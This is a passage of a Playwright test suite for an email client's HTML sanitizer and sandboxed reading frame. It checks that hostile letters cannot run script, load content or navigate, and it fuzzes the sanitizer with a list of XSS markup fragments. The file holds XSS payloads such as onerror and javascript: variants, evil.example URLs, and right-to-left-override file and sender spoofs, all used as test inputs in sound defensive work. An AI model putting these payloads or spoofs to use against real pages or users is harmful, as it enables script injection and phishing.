    expect(await appState(page)).toEqual(before);
    expect(seen.escaped()).toEqual([]);
    expect(seen.refused).toEqual([]);
    expect(seen.dialogs).toEqual([]);
    expect(seen.xss).toEqual([]);
    expect(seen.navigations).toEqual([]);
  });

  test('"Show images" loads the remote images and nothing else', async ({ page, context }) => {
    const seen = await watch(page, context);
    await open(page);
    seen.watchNavigation();
    const before = await appState(page);
    await read(page, 'Hostile: body');
    await expect(page.locator('.blocked-images')).toContainText(
      `${remoteImages(tracker.origin).length} remote images are blocked`,
    );
    expect(tracker.hits).toEqual([]);

    await page.getByRole('button', { name: 'Show images', exact: true }).click();
    await expect(page.locator('.blocked-images')).toHaveCount(0);
    await expect.poll(() => [...tracker.hits].sort()).toEqual([...IMAGE_PATHS].sort());
    const frame = letterFrame(page);
    await frame.waitForLoadState('load');
    const inside = (await frame.evaluate(INSPECT_LETTER)) as { images: string[]; pwned: unknown };
    expect(inside.pwned).toBeNull();
    expect(inside.images.sort()).toEqual(remoteImages(tracker.origin));
    await page.screenshot({ path: path.join(SCREENS, 'hostile-images-shown.png') });
    await page.waitForTimeout(1_000);

    // The letter's frame asked for its images, one each, and nothing else from anywhere: not the app's own API,
    // which "http:/api/events" would have reached, relative to the app's address.
    const escaped = seen.escaped();
    expect(escaped.map((r) => `${r.type} ${r.url}`).sort()).toEqual(
      remoteImages(tracker.origin).map((u) => `image ${u}`),
    );
    expect([...tracker.hits].sort()).toEqual([...IMAGE_PATHS].sort());
    expect(seen.refused).toEqual(['http://api/events?from=letter']);
    expect(await appState(page)).toEqual(before);
    expect(seen.dialogs).toEqual([]);
    expect(seen.xss).toEqual([]);
    expect(seen.popups()).toEqual([]);
    expect(seen.navigations).toEqual([]);
  });

  test('markup in a plain-text letter and in the headers stays text', async ({ page, context }) => {
    const seen = await watch(page, context);
    await open(page);
    seen.watchNavigation();
    const before = await appState(page);

    await row(page, 'Plain text with markup').click();
    const text = page.locator('.letter-text');
    await expect(text).toContainText('<b>not bold</b>');
    await expect(text).toContainText('<script>');
    await expect(text.locator('b, img, script, a')).toHaveCount(0);
    await expect(page.locator('iframe.letter-frame')).toHaveCount(0);

    await row(page, SUBJECT_MARKUP).click();
    await expect(page.locator('.letter-title')).toContainText(SUBJECT_MARKUP);
    await expect(page.locator('.letter-head')).toContainText('<img src=x onerror=alert(1)>');
    await expect(page.locator('img[src="x"], b:has-text("markup")')).toHaveCount(0);
    await page.screenshot({ path: path.join(SCREENS, 'hostile-plain-text.png') });

    // A direction override in a subject or a sender's name is not obeyed: the characters show in their real order.
    await row(page, 'Счётfdp.exe').click();
    await expect(page.locator('.letter-title')).toHaveText(/Счётfdp\.exe$/);
    await expect(page.locator('.letter-head')).toContainText('Bankknab <billing@evil.example>');
    const shownText = await page.locator('.reading, .vlist').allTextContents();
    expect(shownText.some((text) => /[\u202a-\u202e\u2066-\u2069]/.test(text))).toBe(false);
    await page.waitForTimeout(500);

    expect(await appState(page)).toEqual(before);
    expect(seen.escaped()).toEqual([]);
    expect(seen.dialogs).toEqual([]);
    expect(seen.xss).toEqual([]);
  });

  test('an attachment saves under a safe name, whatever the letter called it', async ({ page, context }) => {
    const seen = await watch(page, context);
    await open(page);
    const before = await appState(page);
    await row(page, 'Hostile attachments').click();
    const list = page.locator('.attachment-list');
    // Names are shown as text, and without the direction override that would make "invoice\u202Etxt.exe" read
    // "invoiceexe.txt".
    const shown = HOSTILE_FILES.map((f) => f.name.replace('\u202e', ''));
    await expect(list.locator('.attachment-name')).toHaveText(shown);
    await expect(list.locator('img')).toHaveCount(0);
    await page.screenshot({ path: path.join(SCREENS, 'hostile-attachments.png') });

    const saved: string[] = [];
    for (const [i, file] of HOSTILE_FILES.entries()) {
      const download = page.waitForEvent('download');
      await list.getByRole('button', { name: `Save: ${shown[i]}`, exact: true }).click();
      const done = await download;
      const name = done.suggestedFilename();
      saved.push(name);
      // One path component, no hidden direction change, and the bytes of the letter's file.
      expect(name).not.toMatch(/[/\\]|^\.|[\u202a-\u202e\u2066-\u2069]/);
      expect(fs.readFileSync(await done.path())).toEqual(file.content);
    }
    console.log(`hostile attachment names saved as: ${saved.map((n) => JSON.stringify(n)).join(', ')}`);
    expect(saved[0]).toBe('evil.exe');
    expect(saved[1]).toBe('invoicetxt.exe');

    expect(await appState(page)).toEqual(before);
    expect(seen.escaped()).toEqual([]);
    expect(seen.dialogs).toEqual([]);
    expect(seen.xss).toEqual([]);
  });

  test('the frame alone holds when the sanitizer is bypassed', async ({ page, context }) => {
    // The inner wall on its own: every hostile letter, unsanitized, in the frame the reading pane builds. Its sandbox
    // lets a link open a window; with no click, nothing may.
    const seen = await watch(page, context);
    await open(page);
    seen.watchNavigation();
    const before = await appState(page);
    for (const { html } of hostile.letters) {
      await page.evaluate(
        `(() => {
          const frame = document.createElement('iframe');
          frame.className = 'raw-letter';
          frame.setAttribute('sandbox', ${JSON.stringify(LETTER_SANDBOX)});
          frame.setAttribute('referrerpolicy', 'no-referrer');
          frame.srcdoc = ${JSON.stringify(letterDocument(html, { remoteImages: false }))};
          document.body.append(frame);
        })()`,
      );
    }
    const frames = page.frameLocator('iframe.raw-letter');
    await expect(page.locator('iframe.raw-letter')).toHaveCount(hostile.letters.length);
    for (let i = 0; i < hostile.letters.length; i++) await expect(frames.nth(i).locator('body')).toContainText(END);
    for (const frame of page.mainFrame().childFrames()) await frame.waitForLoadState('load');
    await page.waitForTimeout(1_000);

    // Chromium reports the loads the frame's policy stopped as failed requests; none may reach a server.
    const blocked = seen.escaped().filter((r) => r.outcome !== 'finished');
    console.log(
      `hostile HTML, frame alone: ${blocked.length} loads refused by the frame's policy, none reached a server`,
    );
    expect(await appState(page)).toEqual(before);
    expect(seen.delivered()).toEqual([]);
    expect(seen.refused).toEqual([]);
    expect(tracker.hits).toEqual([]);
    expect(seen.dialogs).toEqual([]);
    expect(seen.xss).toEqual([]);
    expect(seen.popups()).toEqual([]);
    expect(seen.navigations).toEqual([]);
  });
});

/**
 * Pieces of markup a browser's parser treats specially (foreign content, raw text, tables, comments, references,
 * URL and CSS tricks): strung together at random, they look for a string the sanitizer reads one way and the
 * browser another.
 */
const PIECES = [
  '<',
  '>',
  '</',
  '/',
  '/>',
  ' ',
  '\t',
  '\n',
  '\f',
  '\r',
  '\0',
  '"',
  "'",
  '`',
  '=',
  '&',
  '&#',
  '&#x6a;',
  'x3c;',
  '&lt;',
  '&quot;',
  '&Tab;',
  '&NewLine;',
  '&colon;',
  '<!--',
  '-->',
  '--!>',
  '<!',
  '<?',
  '<![CDATA[',
  ']]>',
  '<svg>',
  '</svg>',
  '<math>',
  '<mglyph>',
  '<malignmark>',
  '<mtext>',
  '<foreignObject>',
  '<desc>',
  '<style>',
  '</style>',
  '<script>',
  '</script>',
  '<noscript>',
  '</noscript>',
  '<noembed>',
  '<xmp>',
  '<title>',
  '<textarea>',
  '</textarea>',
  '<template>',
  '<plaintext>',
  '<select>',
  '<option>',
  '<table>',
  '</table>',
  '<td>',
  '<tr>',
  '<caption>',
  '<form>',
  '<p>',
  '</p>',
  '<b>',
  '<a ',
  '<a href=',
  '<img ',
  '<img src=',
  '<image src=',
  '<base href=',
  '<meta http-equiv=refresh content=',
  '<iframe srcdoc=',
  '<frameset>',
  '<li>',
  '<pre>',
  'href=',
  'src=',
  'style=',
  'onerror=',
  'onload=',
  'xlink:href=',
  'javascript:',
  'jav&#x61;script:',
  'java&#9;script:',
  'data:text/html,',
  'data:image/png;base64,AA',
  'https://evil.example/',
  '//evil.example/',
  'url(',
  '\\75rl(',
  'expression(',
  '@import ',
  'alert(1)',
];

test.describe("the sanitizer's output as Chromium parses it", () => {
  test('holds nothing but the allow-list, for thousands of generated letters', async ({ page }) => {
    await page.goto('about:blank');
    const allowList = { tags: TAGS, globals: [...GLOBAL_ATTRIBUTES] };
    // Parsed as the letter's frame parses it (scripting off), into a document that loads nothing. One round trip
    // per batch: the browser answers with what it found off the list in each letter.
    const violations = (letters: string[], remoteImages: boolean) =>
      page.evaluate(
        `(({ letters, remoteImages, tags, globals }) => letters.map((html) => {
          const doc = new DOMParser().parseFromString('<!doctype html><body>' + html, 'text/html');
          const bad = [];
          const protocolOf = (url) => { try { return new URL(url).protocol; } catch { return ''; } };
          if (doc.head.children.length) bad.push('head: ' + doc.head.innerHTML);
          for (const el of doc.body.querySelectorAll('*')) {
            const name = el.localName;
            if (el.namespaceURI !== 'http://www.w3.org/1999/xhtml' || !Object.hasOwn(tags, name)) {
              bad.push('element ' + name);
              continue;
            }
            for (const { name: attribute, value } of el.attributes) {
              const linkOnly = name === 'a' && (attribute === 'target' || attribute === 'rel');
              if (!globals.includes(attribute) && !tags[name].includes(attribute) && !linkOnly) {
                bad.push(name + ' ' + attribute);
              } else if (attribute === 'href') {
                const scheme = protocolOf(value);
                // A web address without "//" would be relative to the app's own address.
                if (!['http:', 'https:', 'mailto:'].includes(scheme) || (scheme !== 'mailto:' && !/^https?:\\/\\//i.test(value))) {
                  bad.push('href ' + value);
                }
              } else if (attribute === 'src' && !/^data:image\\/(png|gif|jpeg|jpg|webp|bmp);base64,/i.test(value) &&
                  !(remoteImages && /^https?:\\/\\//i.test(value))) {
                bad.push('src ' + value);
              } else if (attribute === 'target' && value !== '_blank') {
                bad.push('target ' + value);
              } else if (attribute === 'style' && /url\\(|image(-set)?\\(|expression|\\\\/i.test(el.style.cssText)) {
                bad.push('style ' + value);
              }
            }
          }
          return bad;
        }))(${JSON.stringify({ letters, remoteImages, ...allowList })})`,
      ) as Promise<string[][]>;

    const seed = Number(process.env.FC_SEED ?? Date.now() % 2 ** 31);
    const inputs = [
      ...hostileLetters('http://127.0.0.1:9').attacks.map((a) => a.html),
      ...fc.sample(
        fc.array(fc.constantFrom(...PIECES), { maxLength: 40 }).map((p) => p.join('')),
        { numRuns: 5_000, seed },
      ),
    ];
    const failures: Array<{ input: string; output: string; found: string[] }> = [];
    // Both ways a letter is shown: remote images blocked, and after "Show images".
    for (const remoteImages of [false, true]) {
      for (let from = 0; from < inputs.length; from += 500) {
        const batch = inputs
          .slice(from, from + 500)
          .map((input) => ({ input, output: sanitizeHtml(input, { remoteImages }).html }));
        const found = await violations(
          batch.map((b) => b.output),
          remoteImages,
        );
        found.forEach((list, i) => {
          if (list.length) failures.push({ ...(batch[i] as { input: string; output: string }), found: list });
        });
      }
    }
    // The shortest failing letter is the one to read first.
    failures.sort((a, b) => a.input.length - b.input.length);
    expect(failures.slice(0, 3), `seed ${seed}`).toEqual([]);
    console.log(
      `sanitizer output parsed by Chromium: ${inputs.length} letters (the attacks and generated ones, seed ${seed}), ` +
        'with and without remote images, nothing off the allow-list',
    );
  });
});
